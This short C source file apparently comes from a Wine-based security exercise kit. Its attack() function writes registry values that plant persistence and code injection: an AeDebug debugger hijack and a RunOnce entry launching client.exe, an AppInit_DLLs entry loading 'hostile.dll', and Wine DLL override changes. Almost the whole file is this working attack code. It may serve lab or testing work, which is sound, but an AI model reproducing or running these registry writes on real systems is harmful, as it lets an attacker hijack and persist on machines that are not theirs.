/*
 * win32-registry-of-the-next.c - sets what the next program of the prefix would be started with
 *
 * play: main 02 client
 * play: main 01 server
 */
static void
set(HKEY root, const char *path, const char *name, const char *value)
{
    HKEY key;

    if (RegCreateKeyExA(
            root, path, 0, NULL, 0, KEY_ALL_ACCESS, NULL, &key, NULL) != 0)
        return;
    RegSetValueExA(
        key, name, 0, REG_SZ, (const BYTE *)value, (DWORD)strlen(value) + 1);
    RegCloseKey(key);
}

static void
attack(void)
{
    set(HKEY_LOCAL_MACHINE,
        "Software\\Microsoft\\Windows NT\\CurrentVersion\\AeDebug", "Debugger",
        "Z:\\kit\\student\\client.exe");
    set(HKEY_CURRENT_USER, "Software\\Wine\\DllOverrides", "kernel32", "");
    set(HKEY_CURRENT_USER, "Software\\Wine\\Debug", "RelayExclude", "*");
    set(HKEY_LOCAL_MACHINE,
        "Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows",
        "AppInit_DLLs", "Z:\\work\\hostile.dll");
    set(HKEY_CURRENT_USER,
        "Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce", "x",
        "Z:\\kit\\student\\client.exe");
}
